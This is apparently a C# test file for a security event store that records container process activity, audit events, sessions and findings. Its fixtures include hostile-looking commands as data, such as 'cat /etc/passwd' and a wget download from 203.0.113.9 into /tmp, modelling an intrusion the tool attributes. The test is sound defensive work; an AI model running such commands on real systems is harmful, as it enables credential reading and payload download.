using Ebpf.Api.V1;
using Google.Protobuf;

namespace Ebpf.Store.Tests;

public sealed class EventStoreTests : IDisposable
{
    private readonly TempStoreDirectory _dir = new();

    public void Dispose() => _dir.Dispose();

    [Fact]
    public async Task AppendAsync_MixedRecords_ReplayReturnsSameBytesInSequenceOrder()
    {
        var appended = new List<byte[]>();
        await using (var store = _dir.Open())
        {
            var records = new[]
            {
                Records.Exec("100@5000", "90@4000", 100, "/bin/sh", ["sh"], 1, "s-1"),
                Records.Audit("aud-1", 0.9),
                Records.Session("s-1", 1, rootKey: "100@5000"),
                new Record { Time = Records.At(2), Attribution = new AttributionUpdate { SessionId = "s-1", Confidence = Confidence.Certain, ProcessKeys = { "100@5000" }, Sequences = { 1 } } },
                Records.Finding("f-1", "unattributed-exec", 3),
            };
            foreach (var record in records)
            {
                var stored = await store.AppendAsync(record);
                appended.Add(stored.ToByteArray());
            }
            Assert.Equal([1UL, 2, 3, 4, 5], records.Select(r => r.Sequence));
            Assert.Equal(5UL, store.LastSequence);
        }

        await using (var reopened = _dir.Open())
        {
            var replayed = new List<Record>();
            await foreach (var record in reopened.ReplayAsync(1)) replayed.Add(record);
            Assert.Equal(appended.Count, replayed.Count);
            for (int i = 0; i < appended.Count; i++) Assert.Equal(appended[i], replayed[i].ToByteArray());

            var fromThird = new List<Record>();
            await foreach (var record in reopened.ReplayAsync(3, max: 2)) fromThird.Add(record);
            Assert.Equal([3UL, 4], fromThird.Select(r => r.Sequence));
        }
        // The stored payload column itself is the serialized record.
        using var raw = _dir.Raw();
        using var command = raw.CreateCommand();
        command.CommandText = "SELECT payload FROM journal WHERE sequence = 3";
        Assert.Equal(appended[2], (byte[])command.ExecuteScalar()!);
    }

    [Fact]
    public async Task Replay_MoreThanOnePage_ReturnsEveryRecordOnce()
    {
        await using var store = _dir.Open();
        var batch = Enumerable.Range(0, 2_500).Select(i => Records.Exec($"{i}@1", "1@1", i, "/bin/true", ["true"], i)).ToList();
        await store.AppendAsync(batch);
        var sequences = new List<ulong>();
        await foreach (var record in store.ReplayAsync(0)) sequences.Add(record.Sequence);
        Assert.Equal(Enumerable.Range(1, 2_500).Select(i => (ulong)i), sequences);
    }

    [Fact]
    public async Task Append_AcrossReopen_SequenceKeepsIncreasing()
    {
        ulong last;
        await using (var store = _dir.Open())
        {
            for (int i = 0; i < 10; i++) store.Append(Records.Exec($"{i}@1", "1@1", i, "/bin/true", ["true"], i));
            await store.FlushAsync();
            last = store.LastSequence;
            Assert.Equal(10UL, last);
        }
        await using (var store = _dir.Open())
        {
            Assert.Equal(last, store.LastSequence);
            var next = await store.AppendAsync(Records.Exec("99@1", "1@1", 99, "/bin/true", ["true"], 99));
            Assert.Equal(last + 1, next.Sequence);
        }
    }

    [Fact]
    public async Task AppendAuditAsync_DuplicateKeys_StoredOnceAndReported()
    {
        await using var store = _dir.Open();
        var first = Records.Audit("aud-1", 1);
        var second = Records.Audit("aud-2", 2);
        var result = await store.AppendAuditAsync([
            (AuditDedupeKey.From(first.AuditEvent), first, Records.RawAuditJson("aud-1")),
            (AuditDedupeKey.From(second.AuditEvent), second, Records.RawAuditJson("aud-2")),
        ]);
        Assert.Equal((2, 0), (result.Appended, result.Duplicates));

        // A webhook retry: same auditID, stage and stageTimestamp, in a batch that also repeats itself and adds one new stage.
        var retry = Records.Audit("aud-1", 1);
        var retryAgain = Records.Audit("aud-1", 1);
        var otherStage = Records.Audit("aud-1", 1, stage: "ResponseStarted");
        var again = await store.AppendAuditAsync([
            (AuditDedupeKey.From(retry.AuditEvent), retry, Records.RawAuditJson("aud-1")),
            (AuditDedupeKey.From(retryAgain.AuditEvent), retryAgain, Records.RawAuditJson("aud-1")),
            (AuditDedupeKey.From(otherStage.AuditEvent), otherStage, Records.RawAuditJson("aud-1")),
        ]);
        Assert.Equal((1, 2), (again.Appended, again.Duplicates));
        Assert.Equal([true, true, false], again.IsDuplicate);
        Assert.Equal(0UL, retry.Sequence);
        Assert.NotEqual(0UL, otherStage.Sequence);
        Assert.Equal(2, store.Counters.AuditDuplicates);

        Assert.Equal(3, _dir.Scalar("SELECT count(*) FROM journal WHERE kind = 2"));
        Assert.Equal(3, _dir.Scalar("SELECT count(*) FROM audit_events"));
        using var raw = _dir.Raw();
        using var command = raw.CreateCommand();
        command.CommandText = "SELECT raw_json FROM audit_events WHERE audit_id = 'aud-2'";
        Assert.Equal(Records.RawAuditJson("aud-2"), (byte[])command.ExecuteScalar()!);
    }

    [Fact]
    public async Task AppendAsync_LaterSessionVersion_ReplacesEarlierInLookupsButJournalKeepsBoth()
    {
        await using var store = _dir.Open();
        await store.AppendAsync(Records.Session("s-1", 10, confidence: Confidence.Probable, rootKey: "100@5000"));
        var later = Records.Session("s-1", 10, confidence: Confidence.Certain, rootKey: "100@5000", end: 20);
        later.Session.ProcessCount = 3;
        await store.AppendAsync(later);

        var sessions = store.ListSessions(null, null, null, null, null, 0);
        var session = Assert.Single(sessions);
        Assert.Equal(Confidence.Certain, session.Confidence);
        Assert.Equal(3u, session.ProcessCount);
        Assert.Equal(Confidence.Certain, store.GetSession("s-1")!.Session.Confidence);
        Assert.Equal(2, _dir.Scalar("SELECT count(*) FROM journal WHERE kind = 3 AND session_id = 's-1'"));
    }

    [Fact]
    public async Task ListSessions_Filters_NewestFirstWithinLimit()
    {
        await using var store = _dir.Open();
        await store.AppendAsync([
            Records.Session("s-a", 10, user: "alice"),
            Records.Session("s-b", 20, user: "bob"),
            Records.Session("s-c", 30, user: "alice", pod: "web-1"),
            Records.Session("s-d", 40, user: "alice", ns: "billing", pod: "api-0"),
        ]);
        Assert.Equal(["s-d", "s-c", "s-b", "s-a"], store.ListSessions(null, null, null, null, null, 0).Select(s => s.Id));
        Assert.Equal(["s-d", "s-c", "s-a"], store.ListSessions("alice", null, null, null, null, 0).Select(s => s.Id));
        Assert.Equal(["s-c", "s-a"], store.ListSessions("alice", "shop", null, null, null, 0).Select(s => s.Id));
        Assert.Equal(["s-c"], store.ListSessions(null, "shop", "web-1", null, null, 0).Select(s => s.Id));
        Assert.Equal(["s-c", "s-b"], store.ListSessions(null, null, null, Records.T0.AddSeconds(15), Records.T0.AddSeconds(35), 0).Select(s => s.Id));
        Assert.Equal(["s-d", "s-c"], store.ListSessions(null, null, null, null, null, 2).Select(s => s.Id));
        var response = store.ListSessions(new ListSessionsRequest { User = "bob" });
        Assert.Equal("s-b", Assert.Single(response.Sessions).Id);
    }

    [Fact]
    public async Task GetSession_ShellRunningCatAndWget_BuildsProcessTreeRootFirst()
    {
        await using var store = _dir.Open();
        const string sh = "100@5000", cat = "101@5100", wget = "102@5200", other = "200@6000";
        await store.AppendAsync([
            Records.Exec(sh, "90@4000", 100, "/bin/sh", ["sh"], 1, "s-1", cwd: "/"),
            Records.Exec(other, "90@4000", 200, "/bin/ls", ["ls", "-l"], 1.5),   // same pod, not in the session
            Records.Fork(sh, 100, cat, 101, 2, "s-1"),
            Records.Exec(cat, sh, 101, "/bin/cat", ["cat", "/etc/passwd"], 2.1),
            Records.Open(cat, 101, 2.15, "/etc/passwd"),
            Records.Exit(cat, 101, 2.2, 0),
            Records.Fork(sh, 100, wget, 102, 3),
            Records.Exec(wget, sh, 102, "/usr/bin/wget", ["wget", "-O", "/tmp/x", "http://203.0.113.9/x"], 3.1),
            Records.Connect(wget, 102, 3.2, "203.0.113.9", 80),
            Records.Open(wget, 102, 3.3, "/tmp/x"),
            Records.Exit(wget, 102, 3.4, null, signal: 9),
            new Record { Time = Records.At(3.5), Attribution = new AttributionUpdate { SessionId = "s-1", Confidence = Confidence.Certain, ProcessKeys = { cat, wget } } },
            Records.Exit(sh, 100, 4, 0),
            Records.Session("s-1", 1, rootKey: sh, end: 4),
        ]);

        var detail = store.GetSession("s-1");
        Assert.NotNull(detail);
        Assert.Equal("s-1", detail.Session.Id);
        Assert.Equal([sh, cat, wget], detail.Processes.Select(p => p.ProcessKey));

        var shell = detail.Processes[0];
        Assert.Equal("/bin/sh", shell.Filename);
        Assert.Equal("/", shell.Cwd);
        Assert.Equal(0, shell.ExitCode);
        Assert.Equal(Records.At(4), shell.End);

        var catNode = detail.Processes[1];
        Assert.Equal(sh, catNode.ParentProcessKey);
        Assert.Equal(101, catNode.Pid);
        Assert.Equal(["cat", "/etc/passwd"], catNode.Argv);
        Assert.Equal(1000u, catNode.Uid);
        Assert.Equal(Records.At(2), catNode.Start);
        Assert.Equal("/etc/passwd", Assert.Single(catNode.Files).Path);
        Assert.Empty(catNode.Connects);

        var wgetNode = detail.Processes[2];
        Assert.Equal(sh, wgetNode.ParentProcessKey);
        Assert.Equal("/usr/bin/wget", wgetNode.Filename);
        var connect = Assert.Single(wgetNode.Connects);
        Assert.Equal(("203.0.113.9", 80u), (connect.Address, connect.Port));
        Assert.Equal("/tmp/x", Assert.Single(wgetNode.Files).Path);
        Assert.False(wgetNode.HasExitCode);
        Assert.Equal(9, wgetNode.Signal);
    }

    [Fact]
    public async Task GetSession_ShellReplacesItselfWithLastCommand_EveryImageKept()
    {
        // busybox/dash `sh -c "cat f; wget u"` forks for cat and execs wget in place of the shell.
        await using var store = _dir.Open();
        const string sh = "300@5000", cat = "301@5100";
        await store.AppendAsync([
            Records.Exec(sh, "90@4000", 300, "/bin/sh", ["sh", "-c", "cat f; wget u"], 1, "s-2"),
            Records.Fork(sh, 300, cat, 301, 2, "s-2"),
            Records.Exec(sh, "90@4000", 300, "/bin/wget", ["wget", "u"], 3, "s-2"),
            Records.Session("s-2", 1, rootKey: sh),
        ]);

        var shell = store.GetSession("s-2")!.Processes[0];

        Assert.Equal(["wget", "u"], shell.Argv);
        Assert.Equal([["sh", "-c", "cat f; wget u"], ["wget", "u"]], shell.Images.Select(i => i.Argv.ToArray()));
        Assert.Equal(["/bin/sh", "/bin/wget"], shell.Images.Select(i => i.Filename));
        Assert.Empty(store.GetSession("s-2")!.Processes[1].Images);
    }

    [Fact]
    public async Task GetSession_Prefixes_ResolveUniqueRejectAmbiguousAndMissReturnsNull()
    {
        await using var store = _dir.Open();
        await store.AppendAsync([
            Records.Session("7f3a9c01-aaaa", 1),
            Records.Session("7f3a9c02-bbbb", 2),
            Records.Session("e5d1-cccc", 3),
        ]);
        Assert.Equal("e5d1-cccc", store.GetSession("e5")!.Session.Id);
        Assert.Equal("7f3a9c02-bbbb", store.GetSession("7f3a9c02")!.Session.Id);
        var ambiguous = Assert.Throws<AmbiguousSessionIdException>(() => store.GetSession("7f3a"));
        Assert.Equal(["7f3a9c01-aaaa", "7f3a9c02-bbbb"], ambiguous.Candidates);
        Assert.Contains("ambiguous", ambiguous.Message, StringComparison.Ordinal);
        Assert.Null(store.GetSession("0000"));
        Assert.Null(store.GetSession("7f3a9c01-aaaa-and-more"));
    }

    [Fact]
    public async Task WhoTouched_Pod_ReturnsItsAuditEventsAndSessionsNewestFirst()
    {
        await using var store = _dir.Open();
        var entries = new[]
        {
            Records.Audit("aud-1", 1, user: "alice"),
            Records.Audit("aud-2", 5, user: "bob", subresource: "attach"),
            Records.Audit("aud-3", 6, pod: "web-1"),
            Records.Audit("aud-4", 7, ns: "billing"),
        }.Select(r => (AuditDedupeKey.From(r.AuditEvent), r, (ReadOnlyMemory<byte>)Records.RawAuditJson(r.AuditEvent.AuditId))).ToList();
        await store.AppendAuditAsync(entries);
        await store.AppendAsync([Records.Session("s-1", 1.2, user: "alice"), Records.Session("s-2", 6.2, pod: "web-1")]);

        var touched = store.WhoTouched("shop", "web-0", null, 0);
        Assert.Equal(["aud-2", "aud-1"], touched.AuditEvents.Select(a => a.AuditId));
        Assert.Equal(["bob", "alice"], touched.AuditEvents.Select(a => a.AttributedUser));
        Assert.Equal("s-1", Assert.Single(touched.Sessions).Id);

        var since = store.WhoTouched(new WhoTouchedRequest { Namespace = "shop", Pod = "web-0", Since = Records.At(2) });
        Assert.Equal("aud-2", Assert.Single(since.AuditEvents).AuditId);
        Assert.Empty(since.Sessions);

        var wholeNamespace = store.WhoTouched("shop", null, null, 0);
        Assert.Equal(["aud-3", "aud-2", "aud-1"], wholeNamespace.AuditEvents.Select(a => a.AuditId));
    }

    [Fact]
    public async Task ListFindings_Filters_NewestFirst()
    {
        await using var store = _dir.Open();
        await store.AppendAsync([
            Records.Finding("f-1", "unattributed-exec", 1),
            Records.Finding("f-2", "token-used-outside-pod", 2),
            Records.Finding("f-3", "unattributed-exec", 3, pod: "web-1"),
            Records.Finding("f-4", "unattributed-exec", 4, ns: "billing", pod: "api-0"),
        ]);
        Assert.Equal(["f-4", "f-3", "f-2", "f-1"], store.ListFindings(null, null, null, null, 0).Select(f => f.Id));
        Assert.Equal(["f-3", "f-1"], store.ListFindings("shop", null, "unattributed-exec", null, 0).Select(f => f.Id));
        Assert.Equal(["f-2"], store.ListFindings("shop", "web-0", "token-used-outside-pod", null, 0).Select(f => f.Id));
        Assert.Equal(["f-4", "f-3"], store.ListFindings(null, null, null, Records.T0.AddSeconds(3), 0).Select(f => f.Id));
        var response = store.ListFindings(new ListFindingsRequest { Kind = "unattributed-exec", Limit = 1 });
        Assert.Equal("f-4", Assert.Single(response.Findings).Id);
        Assert.Equal("wget http://203.0.113.9/x", response.Findings[0].Evidence["argv"]);
    }

    [Fact]
    public async Task Lookups_MalformedPayloadRows_SkippedAndCounted()
    {
        await using (var store = _dir.Open())
        {
            await store.AppendAsync([
                Records.Session("s-1", 1), Records.Session("s-2", 2),
                Records.Finding("f-1", "unattributed-exec", 3), Records.Finding("f-2", "unattributed-exec", 4),
                Records.Exec("100@1", "1@1", 100, "/bin/sh", ["sh"], 5),
            ]);
        }
        // Garbage that is not a protobuf message, and a valid message of the wrong kind.
        _dir.Execute("UPDATE journal SET payload = x'ffffffffffffffffff' WHERE sequence = 1");
        _dir.Execute($"UPDATE journal SET payload = x'{Convert.ToHexString(new Record { Dropped = new Dropped { Count = 1 } }.ToByteArray())}' WHERE sequence = 3");

        await using var reopened = _dir.Open();
        Assert.Equal("s-2", Assert.Single(reopened.ListSessions(null, null, null, null, null, 0)).Id);
        Assert.Equal("f-2", Assert.Single(reopened.ListFindings(null, null, null, null, 0)).Id);
        Assert.Null(reopened.GetSession("s-1"));
        var replayed = new List<ulong>();
        await foreach (var record in reopened.ReplayAsync(1)) replayed.Add(record.Sequence);
        Assert.Equal([2UL, 4, 5], replayed);
        Assert.True(reopened.Counters.MalformedRowsSkipped >= 5, $"counted {reopened.Counters.MalformedRowsSkipped}");
    }

    [Fact]
    public async Task Open_SchemaNewerThanKnown_ThrowsClearErrorAndLeavesFileAlone()
    {
        await using (var store = _dir.Open()) await store.AppendAsync(Records.Session("s-1", 1));
        _dir.Execute("PRAGMA user_version = 99");
        var error = Assert.Throws<StoreSchemaException>(() => _dir.Open());
        Assert.Contains("schema version 99", error.Message, StringComparison.Ordinal);
        Assert.Equal(99, _dir.Scalar("PRAGMA user_version"));
        Assert.Equal(1, _dir.Scalar("SELECT count(*) FROM journal"));
    }

    [Fact]
    public async Task Append_QueueFull_DropsCountsAndNeverBlocks()
    {
        // One slot: a burst far faster than the writer finds the queue full. How many records the writer takes
        // while the burst runs depends on scheduling, so the test asserts what the store guarantees: every record
        // is either kept (with a sequence, and stored) or dropped and counted; none blocks the caller.
        const int burst = 5_000;
        await using var store = _dir.Open(o => { o.QueueCapacity = 1; o.MaxBatchDelay = TimeSpan.FromSeconds(1); });
        var records = Enumerable.Range(0, burst).Select(i => store.Append(Records.Exec($"{i}@1", "1@1", i, "/bin/true", ["true"], i))).ToList();
        await store.FlushAsync();

        var kept = records.Where(r => r.Sequence != 0).ToList();
        Assert.NotEmpty(kept);
        Assert.True(kept.Count < burst, "a one-slot queue cannot take a 5,000-record burst without dropping");
        Assert.Equal(burst - kept.Count, store.Counters.Dropped);
        Assert.Equal(kept.Select(r => (long)r.Sequence), ReadSequences());
    }

    [Fact]
    public async Task Append_DroppedKind_Rejected()
    {
        await using var store = _dir.Open();
        Assert.Throws<ArgumentException>(() => store.Append(new Record { Dropped = new Dropped { Count = 3 } }));
        Assert.Throws<ArgumentException>(() => store.Append(new Record()));
    }

    [Fact]
    public async Task DisposeAsync_QueuedFireAndForgetRecords_AreCommitted()
    {
        await using (var store = _dir.Open(o => o.MaxBatchDelay = TimeSpan.FromMilliseconds(200)))
        {
            for (int i = 0; i < 1_000; i++) store.Append(Records.Exec($"{i}@1", "1@1", i, "/bin/true", ["true"], i));
        }
        Assert.Equal(1_000, _dir.Scalar("SELECT count(*) FROM journal"));
        Assert.True(StoreVerifier.Verify(_dir.Path).IsValid);
    }

    [Fact]
    public async Task AppendAsync_AfterDispose_ThrowsObjectDisposed()
    {
        var store = _dir.Open();
        await store.DisposeAsync();
        await Assert.ThrowsAsync<ObjectDisposedException>(() => store.AppendAsync(Records.Session("s", 1)));
        Assert.Equal(0UL, store.Append(Records.Session("s", 1)).Sequence);
        Assert.Equal(1, store.Counters.Dropped);
    }

    [Fact]
    public async Task Lookups_WhileWriterCommits_SeeConsistentSnapshots()
    {
        await using var store = _dir.Open();
        await store.AppendAsync(Records.Session("s-0", 0));
        using var stop = new CancellationTokenSource();
        var writer = Task.Run(async () =>
        {
            for (int i = 1; i <= 200; i++)
            {
                await store.AppendAsync([Records.Exec($"{i}@1", "1@1", i, "/bin/true", ["true"], i), Records.Session($"s-{i}", i)]);
            }
        });
        int lastSeen = 0;
        while (!writer.IsCompleted)
        {
            int count = store.ListSessions(null, null, null, null, null, 1_000).Count;
            Assert.True(count >= lastSeen, $"sessions went from {lastSeen} to {count}");
            lastSeen = count;
            Assert.NotNull(store.GetSession("s-0"));
        }
        await writer;
        Assert.Equal(201, store.ListSessions(null, null, null, null, null, 1_000).Count);
        Assert.Equal(0, store.Counters.MalformedRowsSkipped);
    }

    private List<long> ReadSequences()
    {
        using var raw = _dir.Raw();
        using var command = raw.CreateCommand();
        command.CommandText = "SELECT sequence FROM journal ORDER BY sequence";
        using var reader = command.ExecuteReader();
        var list = new List<long>();
        while (reader.Read()) list.Add(reader.GetInt64(0));
        return list;
    }
}
